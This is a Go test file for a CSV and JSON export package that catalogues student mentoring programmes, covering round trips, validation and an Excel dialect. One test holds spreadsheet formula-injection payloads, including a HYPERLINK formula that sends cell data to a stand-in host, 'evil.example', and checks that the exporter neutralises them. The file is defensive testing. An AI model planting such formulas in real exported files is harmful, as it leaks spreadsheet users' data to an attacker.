package catalogue

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/mentorhub/mentorhub/internal/tabular"
)

// withoutLines returns a copy of rows with Line zeroed.
func withoutLines(rows []Row) []Row {
	out := make([]Row, len(rows))
	for i, r := range rows {
		r.Line = 0
		out[i] = r
	}
	return out
}

func writeCSV(t *testing.T, rows []Row) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// quotedLines is CSV text with the cells of every line but the first
// quoted, as WriteCSV writes them.
func quotedLines(t *testing.T, text string) string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	out := strings.SplitAfter(text, "\n")[0]
	for _, rec := range recs[1:] {
		for i, c := range rec {
			rec[i] = `"` + strings.ReplaceAll(c, `"`, `""`) + `"`
		}
		out += strings.Join(rec, ",") + "\n"
	}
	return out
}

func TestWriteSampleIsCanonical(t *testing.T) {
	sample := readSample(t)
	rows, _ := mustParse(t, string(sample))
	out := writeCSV(t, rows)
	if want := quotedLines(t, string(sample)); string(out) != want {
		t.Errorf("WriteCSV(Parse(sample)) differs from the sample with every data cell quoted:\n%s", out)
	}
	again, _ := mustParse(t, string(out))
	if !reflect.DeepEqual(again, rows) {
		t.Errorf("round trip changed rows")
	}
}

func TestRoundTripNormalises(t *testing.T) {
	in := "\uFEFFstatus;program_id;institution;level;name;transition;model;mentor_kinds;mandatory;enrolment;paid;started;ended;credits;group_size;min_standard;mentors_per_group;students_offered;url\r\n" +
		"CLOSED;p1;Uni;faculty;\"Name; \"\"quoted\"\"\nsecond line\";first_year;open_dropin;ALUMNI|external;ja;opt_in;nei;2015;2016;;010 - 12;5|1;02;1 200;HTTPS://uib.no/a?b=c\r\n"
	rows, _ := mustParse(t, in)
	out := writeCSV(t, rows)
	want := quotedLines(t, header+"p1,Uni,,faculty,\"Name; \"\"quoted\"\"\nsecond line\",first_year,open_dropin,alumni|external,true,opt_in,,false,10-12,2,1200,2015,2016,,closed,,,HTTPS://uib.no/a?b=c,1|5\n")
	if string(out) != want {
		t.Errorf("got\n%s\nwant\n%s", out, want)
	}
	again, _ := mustParse(t, string(out))
	if !reflect.DeepEqual(withoutLines(again), withoutLines(rows)) {
		t.Errorf("round trip: got %+v, want %+v", again, rows)
	}
}

func TestFormulaInjection(t *testing.T) {
	rows, _ := mustParse(t, string(readSample(t)))
	rows = rows[:1]
	rows[0].Name = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	rows[0].Unit = "+47 55 00 00 00"
	rows[0].EndReason = "-- none --"
	rows[0].Funding = "@SUM(A1)"
	rows[0].Institution = "'=already quoted"
	out := string(writeCSV(t, rows))
	for _, want := range []string{
		`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
		`,"'+47 55 00 00 00",`, `,"'-- none --",`, `,"'@SUM(A1)",`, `,"''=already quoted",`,
		`,"10-12",`, // our own formats are untouched
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %s in\n%s", want, out)
		}
	}
	back, _ := mustParse(t, out)
	if !reflect.DeepEqual(withoutLines(back), withoutLines(rows)) {
		t.Errorf("got %+v\nwant %+v", back[0], rows[0])
	}
	// A cell starting with TAB or CR is guarded too: a spreadsheet may
	// drop the white space and run what follows.
	rows[0].Funding, rows[0].EndReason = "\t=1+1", "\r=cmd"
	out = string(writeCSV(t, rows))
	for _, want := range []string{",\"'\t=1+1\",", ",\"'\r=cmd\","} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in\n%q", want, out)
		}
	}
	// A cell typed by hand with the guard quote is read without it.
	in := strings.Replace(string(readSample(t)), "Faculty of Law", "'-Faculty of Law", 1)
	rows, _ = mustParse(t, in)
	if rows[0].Unit != "-Faculty of Law" {
		t.Errorf("unit %q", rows[0].Unit)
	}
	for _, s := range []string{"", "'", "''", "=", "'=", "''=x", "a'=", "'a", "\t", "'\r"} {
		if got := unescapeCell(escapeCell(s)); got != s {
			t.Errorf("unescape(escape(%q)) = %q", s, got)
		}
	}
}

func TestJSONRows(t *testing.T) {
	rows, _ := mustParse(t, string(readSample(t)))
	b, err := json.Marshal(JSONRows(rows[6:8]))
	if err != nil {
		t.Fatal(err)
	}
	want := `[{"program_id":"x-corona-1","institution":"Anonymous university","unit":"Faculty","level":"faculty",` +
		`"name":"Corona-time student mentors","transition":"first_year","model":"fixed_group_voluntary",` +
		`"mentor_kinds":"senior_student","mandatory":false,"enrolment":"opt_in","credits":false,"paid":true,` +
		`"group_size":"","mentors_per_group":1,"students_offered":null,"started":2020,"ended":2022,` +
		`"end_reason":"few students used it; money ended","status":"closed","relevance":"high",` +
		`"funding":"corona funds","url":"","min_standard":"1|3"},` +
		`{"program_id":"x-worklife-1","institution":"Anonymous private college","unit":"Faculty","level":"faculty",` +
		`"name":"Professional mentor in the last two years","transition":"work_life","model":"work_life_one_to_one",` +
		`"mentor_kinds":"external|alumni","mandatory":false,"enrolment":"opt_in","credits":false,"paid":false,` +
		`"group_size":"1","mentors_per_group":1,"students_offered":null,"started":2013,"ended":null,` +
		`"end_reason":"","status":"active","relevance":"high","funding":"","url":"","min_standard":"3|4"}]`
	if string(b) != want {
		t.Errorf("got\n%s\nwant\n%s", b, want)
	}
	var r Row
	b, _ = json.Marshal(JSONRow(r))
	if !strings.Contains(string(b), `"mentor_kinds":"","mandatory":false,"enrolment":"","credits":null`) {
		t.Errorf("zero row: %s", b)
	}
}

func TestValidate(t *testing.T) {
	rows, _ := mustParse(t, string(readSample(t)))
	r := rows[2]
	r.Level, r.GroupSize, r.MinStandard, r.Name = "Faculty", " 6 - 25", []int{5, 1}, "'=x"
	got, ds := r.Validate()
	if ds != nil || got.Level != "faculty" || got.GroupSize != "6-25" || !reflect.DeepEqual(got.MinStandard, []int{1, 5}) || got.Name != "'=x" {
		t.Errorf("got %+v, %v", got, ds)
	}
	r = Row{Line: 0, ProgramID: "p", Status: "active", Ended: ptr(2020), Started: 2021, MentorKinds: []string{"alumni", "alumni"}}
	_, ds = r.Validate()
	want := `column institution: is required
column level: is required
column name: is required
column transition: is required
column model: is required
column mentor_kinds: lists alumni more than once
column enrolment: is required
column ended: must not be before started (2021), not 2020
column ended: ended is only for closed programs (status is active)`
	if got := FormatDetails(ds); got != want {
		t.Errorf("got\n%s", got)
	}
}

// TestWriteCSVForExcel writes the Excel dialect: a BOM, semicolons, every
// data cell quoted; encoding/csv reads it with Comma ';' and Parse reads it
// back to the same rows.
func TestWriteCSVForExcel(t *testing.T) {
	rows, _ := mustParse(t, string(readSample(t)))
	rows[0].Name = "Mentorer; 50,5 % =alle"
	var buf bytes.Buffer
	if err := WriteCSVDialect(&buf, rows, tabular.ExcelDialect); err != nil {
		t.Fatal(err)
	}
	out, ok := strings.CutPrefix(buf.String(), "\uFEFF")
	if !ok {
		t.Fatalf("no BOM: %.80q", buf.String())
	}
	if !strings.HasPrefix(out, strings.Join(Columns, ";")+"\n") {
		t.Errorf("header: %.300s", out)
	}
	cr := csv.NewReader(strings.NewReader(out))
	cr.Comma = ';'
	recs, err := cr.ReadAll()
	if err != nil || len(recs) != len(rows)+1 || recs[1][4] != rows[0].Name {
		t.Fatalf("read with ';': %v %q", err, recs)
	}
	for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n")[1:] {
		if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) || strings.Count(line, `";"`) != len(Columns)-1 {
			t.Errorf("a cell is not quoted: %s", line)
		}
	}
	back, _ := mustParse(t, buf.String())
	if !reflect.DeepEqual(withoutLines(back), withoutLines(rows)) {
		t.Errorf("round trip: got %+v", back[0])
	}
}
